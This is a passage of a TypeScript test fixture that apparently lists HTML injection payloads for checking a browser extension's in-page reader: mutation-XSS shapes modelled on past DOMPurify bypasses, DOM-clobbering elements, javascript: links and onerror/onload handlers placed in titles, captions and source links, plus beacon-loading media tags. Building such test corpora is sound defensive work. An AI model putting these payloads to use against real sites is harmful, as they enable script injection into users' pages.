  { id: 'media-audio-src', category: 'media', html: `<audio src="${B('media-audio-src')}" preload="auto" autoplay></audio>`, note: 'audio src' },
  { id: 'media-video-source', category: 'media', html: `<video preload="auto"><source src="${B('media-video-source')}" type="video/mp4"></video>`, note: 'video source' },
  {
    id: 'media-track',
    category: 'media',
    html: `<video src="${M}"><track default kind="captions" src="${B('media-track')}"></video>`,
    note: 'text track',
  },
  { id: 'media-input-image', category: 'media', html: `<input type="image" src="${B('media-input-image')}" alt="сурет">`, note: 'input type=image' },
  { id: 'media-img-lowsrc', category: 'media', html: `<img src="${O}" lowsrc="${B('media-img-lowsrc')}" dynsrc="${B('media-img-lowsrc')}" alt="">`, fires: 'never', note: 'lowsrc/dynsrc (obsolete)' },
  { id: 'media-svg-image', category: 'media', html: `<svg width="10" height="10"><image href="${B('media-svg-image')}" width="10" height="10"></image></svg>`, note: 'SVG image' },
  { id: 'media-svg-use', category: 'media', html: `<svg width="10" height="10"><use href="${B('media-svg-use')}#x"></use></svg>`, note: 'SVG use of a remote file' },
  {
    id: 'media-svg-feimage',
    category: 'media',
    html: `<svg width="10" height="10"><filter id="oqyfilter"><feImage href="${B('media-svg-feimage')}"></feImage></filter><rect width="10" height="10" filter="url(#oqyfilter)"></rect></svg>`,
    note: 'SVG feImage',
  },
  { id: 'media-bgsound', category: 'media', html: `<bgsound src="${B('media-bgsound')}">`, fires: 'never', note: 'bgsound (obsolete)' },

  // ---- mutation XSS shapes ----------------------------------------------------------------
  {
    id: 'mx-noscript-attr',
    category: 'mutation-xss',
    html: `<noscript><p title="</noscript><img src=${M} onerror=${S('mx-noscript-attr')}>"></p></noscript>`,
    note: 'noscript ends inside an attribute when scripting is on',
  },
  {
    id: 'mx-textarea-attr',
    category: 'mutation-xss',
    html: `<textarea><p title="</textarea><img src=${M} onerror=${S('mx-textarea-attr')}>"></textarea>`,
    note: 'textarea RCDATA ends inside an attribute',
  },
  {
    id: 'mx-title-attr',
    category: 'mutation-xss',
    html: `<title><p title="</title><img src=${M} onerror=${S('mx-title-attr')}>"></title>`,
    note: 'title RCDATA ends inside an attribute',
  },
  {
    id: 'mx-style-attr',
    category: 'mutation-xss',
    html: `<style><p title="</style><img src=${M} onerror=${S('mx-style-attr')}>"></style>`,
    note: 'style raw text ends inside an attribute',
  },
  { id: 'mx-xmp-attr', category: 'mutation-xss', html: `<xmp><p title="</xmp><img src=${M} onerror=${S('mx-xmp-attr')}>"></xmp>`, note: 'xmp raw text' },
  { id: 'mx-noembed-attr', category: 'mutation-xss', html: `<noembed><p title="</noembed><img src=${M} onerror=${S('mx-noembed-attr')}>"></noembed>`, note: 'noembed raw text' },
  { id: 'mx-noframes-attr', category: 'mutation-xss', html: `<noframes><p title="</noframes><img src=${M} onerror=${S('mx-noframes-attr')}>"></noframes>`, note: 'noframes raw text' },
  { id: 'mx-iframe-text', category: 'mutation-xss', html: `<iframe><p title="</iframe><img src=${M} onerror=${S('mx-iframe-text')}>"></iframe>`, note: 'iframe content is raw text' },
  {
    id: 'mx-template-attr',
    category: 'mutation-xss',
    html: `<template><p title="</template><img src=${M} onerror=${S('mx-template-attr')}>"></p><img src=${M} onerror=${S('mx-template-attr')}></template>`,
    note: 'template content, and an end tag inside an attribute',
  },
  {
    id: 'mx-svg-p-style',
    category: 'mutation-xss',
    html: `<svg><p><style><img src=${M} onerror=${S('mx-svg-p-style')}></style></p></svg>`,
    note: '<svg><p><style><img…>: p leaves SVG, style becomes HTML raw text',
  },
  {
    id: 'mx-svg-end-p-style',
    category: 'mutation-xss',
    html: `<svg></p><style><a id="</style><img src=${M} onerror=${S('mx-svg-end-p-style')}>"></a></style></svg>`,
    note: 'DOMPurify 2.0.0 bypass shape: </p> breaks out of SVG',
  },
  {
    id: 'mx-math-mglyph-style',
    category: 'mutation-xss',
    html: `<math><mtext><table><mglyph><style><img src=${M} onerror=${S('mx-math-mglyph-style')}></style></mglyph></table></mtext></math>`,
    note: 'namespace confusion: mglyph/style under mtext>table (DOMPurify 2.0.17 shape)',
  },
  {
    id: 'mx-math-mglyph-comment',
    category: 'mutation-xss',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=${M} onerror=${S('mx-math-mglyph-comment')}&gt;"></style></mglyph></table></mtext></math>`,
    note: 'namespace confusion with a comment in style (DOMPurify 2.0.17 payload)',
  },
  {
    id: 'mx-math-style',
    category: 'mutation-xss',
    html: `<math><style><img src=${M} onerror=${S('mx-math-style')}></style></math>`,
    note: 'style in MathML is not raw text; img leaves MathML',
  },
  {
    id: 'mx-svg-title',
    category: 'mutation-xss',
    html: `<svg><title><p title="</title><img src=${M} onerror=${S('mx-svg-title')}>"></p></title></svg>`,
    note: 'title in SVG is an element, in HTML it is RCDATA',
  },
  {
    id: 'mx-svg-foreignobject',
    category: 'mutation-xss',
    html: `<svg><foreignObject><img src=${M} onerror=${S('mx-svg-foreignobject')}></foreignObject></svg>`,
    note: 'HTML inside SVG foreignObject',
  },
  {
    id: 'mx-svg-cdata',
    category: 'mutation-xss',
    html: `<svg><![CDATA[><image xlink:href="]]><img src=${M} onerror=${S('mx-svg-cdata')}>"></svg>`,
    note: 'CDATA in SVG hides the end of an attribute',
  },
  { id: 'mx-p-attr', category: 'mutation-xss', html: `<span title="</p><img src=${M} onerror=${S('mx-p-attr')}>">подсказка</span>`, note: '</p><img…> inside an attribute' },
  {
    id: 'mx-a-title-escaped',
    category: 'mutation-xss',
    html: `<a href="https://example.kz/" title="&lt;/a&gt;&lt;img src=${M} onerror=${S('mx-a-title-escaped')}&gt;">сілтеме</a>`,
    note: 'escaped markup in an attribute (must stay escaped when serialised)',
  },
  {
    id: 'mx-href-markup',
    category: 'mutation-xss',
    html: `<a href="https://example.kz/?q=</a><img src=${M} onerror=${S('mx-href-markup')}>">сілтеме</a>`,
    note: 'markup inside a link address',
  },
  { id: 'mx-comment-abrupt', category: 'mutation-xss', html: `<!--><img src=${M} onerror=${S('mx-comment-abrupt')}>-->`, note: '<!--> is a whole comment' },
  { id: 'mx-comment-dash', category: 'mutation-xss', html: `<!---><img src=${M} onerror=${S('mx-comment-dash')}>-->`, note: '<!---> is a whole comment' },
  { id: 'mx-cdata-html', category: 'mutation-xss', html: `<![CDATA[><img src=${M} onerror=${S('mx-cdata-html')}>]]>`, note: 'CDATA in HTML is a bogus comment that ends at the first >' },
  {
    id: 'mx-comment-in-attr',
    category: 'mutation-xss',
    html: `<span title="--><img src=${M} onerror=${S('mx-comment-in-attr')}>">түсініктеме</span>`,
    note: 'comment end inside an attribute',
  },
  {
    id: 'mx-form-math',
    category: 'mutation-xss',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src=${M} onerror=${S('mx-form-math')}></style></mglyph></form></mtext></math></form>`,
    note: 'nested forms with MathML (DOMPurify 2.2.2 shape)',
  },

  // ---- DOM clobbering of names the code uses -----------------------------------------------
  { id: 'clob-get-element-by-id', category: 'dom-clobbering', html: `<img name="getElementById" src="${M}" onerror="${S('clob-get-element-by-id')}">`, note: 'document.getElementById' },
  { id: 'clob-query-selector', category: 'dom-clobbering', html: `<img name="querySelector" src="${M}" onerror="${S('clob-query-selector')}">`, note: 'document.querySelector' },
  { id: 'clob-create-element', category: 'dom-clobbering', html: `<img name="createElement" src="${M}" onerror="${S('clob-create-element')}">`, note: 'document.createElement' },
  { id: 'clob-clone-node', category: 'dom-clobbering', html: `<img name="cloneNode" src="${M}" onerror="${S('clob-clone-node')}">`, note: 'document.cloneNode (extract clones the page)' },
  { id: 'clob-base-uri', category: 'dom-clobbering', html: `<img name="baseURI" src="${M}" onerror="${S('clob-base-uri')}">`, note: 'document.baseURI (extract resolves addresses with it)' },
  { id: 'clob-title', category: 'dom-clobbering', html: `<img name="title" src="${M}" onerror="${S('clob-title')}">`, note: 'document.title' },
  { id: 'clob-default-view', category: 'dom-clobbering', html: `<img name="defaultView" src="${M}" onerror="${S('clob-default-view')}">`, note: 'document.defaultView (the body picks its window with it)' },
  { id: 'clob-form-body', category: 'dom-clobbering', html: `<form name="body"><img src="${M}" onerror="${S('clob-form-body')}"></form>`, note: 'document.body' },
  {
    id: 'clob-form-document',
    category: 'dom-clobbering',
    html: `<form id="document" action="javascript:${S('clob-form-document')}"><input name="cookie" value="oqy"></form>`,
    fires: 'interaction',
    note: 'form id=document with a cookie field',
  },
  { id: 'clob-location', category: 'dom-clobbering', html: `<a id="location" href="javascript:${S('clob-location')}">орын</a>`, fires: 'interaction', note: 'id=location' },
  {
    id: 'clob-chrome-runtime',
    category: 'dom-clobbering',
    html: `<a id="chrome"></a><a id="chrome" name="runtime" href="javascript:${S('clob-chrome-runtime')}">рантайм</a>`,
    fires: 'interaction',
    note: 'window.chrome.runtime in the page',
  },
  { id: 'clob-browser', category: 'dom-clobbering', html: `<img id="browser" name="browser" src="${M}" onerror="${S('clob-browser')}">`, note: 'window.browser in the page' },
  { id: 'clob-app', category: 'dom-clobbering', html: `<div id="app"><img src="${M}" onerror="${S('clob-app')}"></div>`, note: 'id=app (the extension pages mount on #app)' },
  {
    id: 'clob-reader-host',
    category: 'dom-clobbering',
    html: `<div id="oqy-reader-host"><img src="${M}" onerror="${S('clob-reader-host')}"></div>`,
    note: "id of the in-page reader's host element",
  },
  {
    id: 'clob-reader-page-style',
    category: 'dom-clobbering',
    html: `<div id="oqy-reader-page-style"><img src="${M}" onerror="${S('clob-reader-page-style')}"></div>`,
    note: "id of the in-page reader's page stylesheet",
  },

  // ---- markup as text, and markup in the title, lead, meta lines, source link, figures -----
  {
    id: 'text-title-img',
    category: 'markup-as-text',
    slot: 'title-text',
    html: `"><img src=${M} onerror=${S('text-title-img')}>`,
    note: 'markup as text in og:title, <title> and the h1',
  },
  {
    id: 'text-title-script',
    category: 'markup-as-text',
    slot: 'title-text',
    html: `</title><script>${S('text-title-script')}</script>`,
    note: 'a title that ends the <title> element and starts a script, as text',
  },
  {
    id: 'text-title-svg',
    category: 'markup-as-text',
    slot: 'title-text',
    html: `<svg onload=${S('text-title-svg')}>`,
    note: 'an svg tag as title text',
  },
  { id: 'title-markup-img', category: 'event-handler', slot: 'title-markup', html: `<img src="${M}" onerror="${S('title-markup-img')}" alt="">`, note: 'img onerror inside the h1' },
  { id: 'title-markup-svg', category: 'event-handler', slot: 'title-markup', html: `<svg onload="${S('title-markup-svg')}"></svg>`, note: 'svg onload inside the h1' },
  { id: 'title-markup-script', category: 'script', slot: 'title-markup', html: `<script>${S('title-markup-script')}</script>`, note: 'script inside the h1' },
  { id: 'lead-img', category: 'event-handler', slot: 'lead', html: `<img src="${M}" onerror="${jsShort('lead-img')}">`, note: 'img onerror inside the lead line' },
  { id: 'lead-script', category: 'script', slot: 'lead', html: `<script>${S('lead-script')}</script>`, note: 'script inside the lead line' },
  { id: 'lead-svg', category: 'event-handler', slot: 'lead', html: `<svg onload="${jsShort('lead-svg')}"></svg>`, note: 'svg onload inside the lead line' },
  { id: 'views-img', category: 'event-handler', slot: 'views', html: `<img src="${M}" onerror="${jsShort('views-img')}">`, note: 'img onerror in the views line' },
  { id: 'views-style', category: 'css', slot: 'views', html: `<style>@import url(${B('views-style')});</style>`, note: '<style>@import in the views line' },
  { id: 'archived-svg', category: 'event-handler', slot: 'archived', html: `<svg onload="${jsShort('archived-svg')}"></svg>`, note: 'svg onload in the archived line' },
  { id: 'archived-iframe', category: 'javascript-data-url', slot: 'archived', html: `<iframe src="javascript:${jsShort('archived-iframe')}"></iframe>`, note: 'javascript: iframe in the archived line' },
  {
    id: 'source-href-js',
    category: 'javascript-data-url',
    slot: 'source-link',
    html: `<a href="javascript:${S('source-href-js')}" target="_blank" rel="nofollow noopener">SOURCE</a>`,
    fires: 'interaction',
    note: 'javascript: as the source address (the address is also the link text)',
  },
  {
    id: 'source-href-tab',
    category: 'encoding',
    slot: 'source-link',
    html: `<a href="java&#9;script:${S('source-href-tab')}" target="_blank">SOURCE</a>`,
    fires: 'interaction',
    note: 'java&#9;script: as the source address',
  },
  {
    id: 'source-href-quotes',
    category: 'mutation-xss',
    slot: 'source-link',
    html: `<a href="SOURCE/&quot;&gt;&lt;img src=${M} onerror=${S('source-href-quotes')}&gt;" target="_blank">SOURCE</a>`,
    note: 'quotes and markup inside the source address',
  },
  {
    id: 'source-handlers',
    category: 'event-handler',
    slot: 'source-link',
    html: `<a href="SOURCE" onclick="${S('source-handlers')}" onmouseover="${S('source-handlers')}" target="_self">SOURCE<img src="${M}" onerror="${S('source-handlers')}"></a>`,
    note: 'handlers on the source link and an image inside it',
  },
  {
    id: 'source-text',
    category: 'markup-as-text',
    slot: 'source-link',
    html: `<a href="SOURCE" target="_blank">SOURCE&lt;script&gt;${S('source-text')}&lt;/script&gt;</a>`,
    note: 'markup as text after the source address',
  },
  { id: 'img-attr-onerror', category: 'event-handler', slot: 'image-attributes', html: `onerror="${S('img-attr-onerror')}" onload="${S('img-attr-onerror')}"`, note: 'onload/onerror on a figure image' },
  {
    id: 'img-attr-alt',
    category: 'markup-as-text',
    slot: 'image-attributes',
    html: `alt="&quot;&gt;&lt;img src=${M} onerror=${S('img-attr-alt')}&gt;" title="&lt;/figure&gt;&lt;svg onload=${S('img-attr-alt')}&gt;"`,
    note: 'markup in alt and title',
  },
  {
    id: 'img-attr-srcset',
    category: 'media',
    slot: 'image-attributes',
    html: `srcset="${B('img-attr-srcset')} 1x, ${OK_IMAGE_2X} 2x" sizes="100vw" style="background:url(${B('img-attr-srcset')})"`,
    note: 'srcset candidate and style url() on a figure image (the 1x candidate is the beacon; the figure has a larger one)',
  },
  { id: 'caption-img', category: 'event-handler', slot: 'caption', html: `<img src="${M}" onerror="${S('caption-img')}">`, note: 'img onerror in a caption' },
  {
    id: 'caption-text',
    category: 'markup-as-text',
    slot: 'caption',
    html: `&lt;svg onload=${S('caption-text')}&gt;`,
    note: 'markup as text in a caption',
  },
  { id: 'caption-a-js', category: 'javascript-data-url', slot: 'caption', html: `<a href="javascript:${S('caption-a-js')}">авторы</a>`, fires: 'interaction', note: 'javascript: link in a caption' },
  {
    id: 'body-text-markup',
    category: 'markup-as-text',
    html: `&lt;script&gt;${S('body-text-markup')}&lt;/script&gt; &lt;img src=${M} onerror=${S('body-text-markup')}&gt;`,
    note: 'markup as text in a paragraph (must be shown as text)',
  },
]);

export function payload(id: string): Payload {
  const p = PAYLOADS.find((x) => x.id === id);
  if (!p) throw new Error(`no payload ${id}`);
  return p;
}

/** How many payloads each category has. */
export function countByCategory(payloads: readonly Payload[] = PAYLOADS): Record<string, number> {
  const out: Record<string, number> = {};
  for (const p of payloads) out[p.category] = (out[p.category] ?? 0) + 1;
  return out;
}
